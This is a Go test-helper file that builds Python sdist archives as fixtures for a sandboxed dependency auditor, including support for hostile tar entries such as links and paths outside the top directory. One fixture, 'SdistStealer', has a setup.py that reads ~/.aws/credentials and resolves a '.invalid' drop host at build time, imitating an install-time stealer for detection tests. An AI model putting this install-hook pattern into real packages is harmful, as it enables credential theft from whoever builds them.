package audittest

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"
)

// Sdist is a Python source distribution to write as a .tar.gz (written
// here with archive/tar: nothing is built on the host). Its setup.py or
// pyproject.toml runs only in depbox's sandbox, in the build phase.
type Sdist struct {
	Name, Version string
	// Files are its files, by path below NAME-VERSION/ (PKG-INFO is
	// generated unless given).
	Files map[string]string
	// Raw, when set, are extra tar entries written as they are (hostile
	// input: links, paths outside the top directory).
	Raw []tar.Header
}

// FileName is the sdist's file name: name-version.tar.gz (PEP 625).
func (s Sdist) FileName() string { return s.Top() + ".tar.gz" }

// Top is its top directory, name-version with the name normalised.
func (s Sdist) Top() string { return Wheel{Name: s.Name}.distName() + "-" + s.Version }

// Bytes returns the sdist's content.
func (s Sdist) Bytes(t testing.TB) []byte {
	t.Helper()
	files := map[string]string{"PKG-INFO": "Metadata-Version: 2.1\nName: " + s.Name + "\nVersion: " + s.Version + "\n"}
	for k, v := range s.Files {
		files[k] = v
	}
	names := make([]string, 0, len(files))
	for k := range files {
		names = append(names, k)
	}
	slices.Sort(names)
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	mtime := time.Date(1985, 10, 26, 8, 15, 0, 0, time.UTC)
	if err := tw.WriteHeader(&tar.Header{Name: s.Top() + "/", Typeflag: tar.TypeDir, Mode: 0o755, ModTime: mtime}); err != nil {
		t.Fatal(err)
	}
	for _, name := range names {
		if err := tw.WriteHeader(&tar.Header{Name: s.Top() + "/" + name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(files[name])), ModTime: mtime}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(files[name])); err != nil {
			t.Fatal(err)
		}
	}
	for _, h := range s.Raw {
		h.ModTime = mtime
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			if _, err := tw.Write(make([]byte, h.Size)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// WriteSdist writes s into dir under its file name and returns the path.
func WriteSdist(t testing.TB, dir string, s Sdist) string {
	t.Helper()
	p := filepath.Join(dir, s.FileName())
	if err := os.WriteFile(p, s.Bytes(t), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// AddSdist publishes s (an sdist only: pip finds no wheel of it).
func (ix *Index) AddSdist(t testing.TB, s Sdist) {
	t.Helper()
	b := s.Bytes(t)
	sum := sha256.Sum256(b)
	ix.mu.Lock()
	defer ix.mu.Unlock()
	ix.files[s.FileName()] = b
	p := normalize(s.Name)
	if ix.links[p] == nil {
		ix.links[p] = map[string]string{}
	}
	ix.links[p][s.FileName()] = hex.EncodeToString(sum[:])
}

// The Python source distributions of the tests. Their setup.py runs only
// in depbox's sandbox and contacts only *.invalid names.
var (
	// SdistPlain is a benign setup.py sdist that requires PyHelper.
	SdistPlain = Sdist{Name: "plain-sdist", Version: "1.0", Files: map[string]string{
		"setup.py":       "from setuptools import setup\nsetup(name='plain-sdist', version='1.0', py_modules=['plain_sdist'], install_requires=['py-helper>=2'])\n",
		"plain_sdist.py": "import py_helper\n\ndef greet(name):\n    return py_helper.pad(name)\n",
	}}
	// SdistStealer's setup.py reads the bait credentials and resolves a
	// *.invalid name when it is built; the module it installs is benign.
	SdistStealer = Sdist{Name: "setup-stealer", Version: "0.3", Files: map[string]string{
		"setup.py": "# TEST FIXTURE imitating an install-time stealer; runs only in depbox's sandbox.\n" +
			"import os, socket\nfrom setuptools import setup\n" +
			"try:\n    open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    pass\n" +
			"try:\n    socket.getaddrinfo('drop.setup-stealer.invalid', 443)\nexcept OSError:\n    pass\n" +
			"setup(name='setup-stealer', version='0.3', py_modules=['setup_stealer'])\n",
		"setup_stealer.py": "VALUE = 3\n",
	}}
)
